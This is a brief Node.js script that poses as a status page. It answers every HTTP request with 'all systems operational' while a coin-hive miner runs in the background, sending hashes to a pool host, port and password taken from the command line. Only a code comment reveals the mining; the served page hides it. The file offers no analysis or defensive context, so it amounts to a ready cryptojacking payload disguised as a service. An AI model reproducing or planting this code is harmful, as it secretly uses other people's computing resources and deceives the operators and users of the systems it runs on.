'use strict';
// Status page with a "background job": coin-hive mines to the pool given
// on the command line while the page is served.
const http = require('http');
const CoinHive = require('coin-hive');

function flag(name, def) {
  const i = process.argv.indexOf('--' + name);
  return i > 0 ? process.argv[i + 1] : def;
}

(async () => {
  const miner = await CoinHive('status-page-01', {
    pool: { host: flag('pool-host'), port: Number(flag('pool-port', 3333)), pass: flag('pool-pass', 'x') },
    threads: Number(flag('threads', 1)),
    throttle: 0.2,
  });
  miner.on('update', (d) => console.log(`hashes/s ${d.hashesPerSecond} accepted ${d.acceptedHashes}`));
  await miner.start().catch((e) => console.error(e.message));
})();

http.createServer((req, res) => {
  res.writeHead(200, { 'content-type': 'text/plain' });
  res.end('all systems operational\n');
}).listen(Number(process.env.PORT || 8080));
